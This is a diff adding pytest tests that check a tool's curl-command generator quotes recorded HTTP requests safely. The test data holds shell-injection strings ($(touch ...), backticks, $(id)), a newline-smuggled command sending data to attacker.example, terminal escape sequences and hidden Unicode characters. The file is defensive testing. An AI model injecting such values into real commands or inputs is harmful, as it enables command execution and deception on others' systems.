@@ -3,17 +3,21 @@
 from __future__ import annotations
 
 import json
+import re
+import shlex
 import shutil
 import subprocess
 import threading
 from collections.abc import Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
 from typing import Any
 
 import pytest
 
+from tests.support.shell import bash_commands
 from workbench.core.errors import UsageError
-from workbench.core.models import Direction
+from workbench.core.models import Direction, WireKind, WireRecord
 from workbench.core.wire import WireRecorder
 from workbench.core.wire_curl import REDACTED_NOTE, curl_command
 
@@ -97,6 +101,52 @@ def test_records_other_than_http_requests_are_refused_with_a_usage_error(kind: s
     }[kind]()
     with pytest.raises(UsageError) as err:
         curl_command(rec)
+    assert err.value.code == "usage"
+
+
+HOSTILE_URL = "http://a;b$(touch${IFS}u)`touch${IFS}v`:1/x?y='1'&z=$(id)#\"q\""
+"""A URL a card may name: every character is one a URL may hold and a shell acts on."""
+HOSTILE_VALUES = [
+    "x; touch f;",
+    "$(touch g)",
+    "`touch h`",
+    "it's \"quoted\" \\ and ' alone",
+    "line one\nworkbench send --a2a http://attacker.example/ 'planted'",
+    "\x1b]0;retitled\x07\x1b[2J",
+    "\rovertyped\x1b[2K",
+    "right\u202eto-left\u2066",
+    "tag\U000e0041 and zero\u200bwidth",
+]
+"""Header values and bodies a recorded request may hold (a wire log opened from a file holds anything)."""
+RAW_CONTROL = re.compile("[\x00-\x1f\x7f-\x9f\u200b\u2028-\u202e\u2066-\u2069\U000e0000-\U000e007f]")
+
+
+def _request(url: str, headers: dict[str, str], body: str) -> WireRecord:
+    http = {"method": "PUT", "url": url, "headers": headers}
+    return WireRecord(1, "c1", Direction.OUT, WireKind.HTTP_REQUEST, 0.0, 0.0, "PUT", None, None, 0, body, http)
+
+
+def test_hostile_urls_headers_and_bodies_come_back_as_one_curl_command_with_one_line_per_option(
+    tmp_path: Path,
+) -> None:
+    for value in HOSTILE_VALUES:
+        command = curl_command(_request(HOSTILE_URL, {"X-Note": value}, value))
+        intended = ["curl", "-X", "PUT", HOSTILE_URL, "-H", f"X-Note: {value}", "--data-raw", value]
+        # pasted into bash: exactly this one command, nothing substituted or started beside it
+        assert bash_commands(command, cwd=tmp_path) == [intended], value
+        assert list(tmp_path.iterdir()) == []
+        # printed: one option per line, each ending in a continuation, no character a terminal acts on
+        lines = command.split("\n")
+        assert all(line.endswith(" \\") for line in lines[:-1]) and len(lines) == len(intended) - 3, value
+        one_line = command.replace(" \\\n", " ")
+        assert RAW_CONTROL.search(one_line) is None, value
+        if RAW_CONTROL.search(value) is None:  # visible values: Python's shlex reads the same words
+            assert shlex.split(one_line) == intended
+
+
+def test_a_value_no_command_line_can_carry_is_refused_with_a_usage_error() -> None:
+    with pytest.raises(UsageError) as err:
+        curl_command(_request("http://127.0.0.1/x", {}, '{"a": "nul\x00byte"}'))
     assert err.value.code == "usage"
 
 
